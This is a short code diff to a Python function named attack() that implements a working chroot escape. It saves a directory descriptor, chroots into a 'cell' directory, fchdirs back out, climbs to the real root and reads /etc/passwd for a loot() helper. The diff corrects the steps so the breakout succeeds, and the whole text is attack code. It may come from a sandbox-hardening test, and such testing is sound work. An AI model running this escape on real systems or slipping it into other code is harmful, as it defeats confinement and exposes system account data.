@@ -3,14 +3,17 @@ import os
 
 
 def attack():
-    top = os.open("/", os.O_RDONLY)
     try:
         os.mkdir("cell")
+        top = os.open(".", os.O_RDONLY)
         os.chroot("cell")
+        os.fchdir(top)
     except OSError:
         pass
-    os.fchdir(top)
     for _ in range(20):
         os.chdir("..")
-    found = os.path.exists("etc/passwd")
-    return loot("/etc/passwd through ..") if found else "clean"
+    try:
+        open("etc/passwd").close()
+    except OSError:
+        return "clean"
+    return loot("/etc/passwd through ..")
